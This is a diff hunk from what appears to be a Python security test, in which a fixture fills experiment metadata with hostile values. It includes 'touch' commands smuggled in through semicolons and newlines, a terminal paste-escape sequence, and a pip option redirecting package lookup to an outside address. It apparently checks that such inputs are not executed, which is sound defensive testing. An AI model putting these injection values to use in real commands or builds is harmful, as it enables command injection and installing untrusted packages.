@@ -182,7 +182,7 @@ def hostile_command(file: Path, place: Path) -> None:
             "model.trust_remote_code=true", "seed=1\x1b[201~\rls",
         ],
         "code": {"commit": f"main; touch {place}", "dirty": False},
-        "packages": {"torch": "1; touch x", "--index-url=http://192.0.2.1 numpy": "1.0"},
+        "packages": {"torch": "1; touch x", "--find-links=http://192.0.2.1 numpy": "1.0"},
         "python": f"3.11\ntouch {place}",
         "hardware": {"devices": [{"name": f"GPU\ntouch {place}"}]},
     }  # fmt: skip
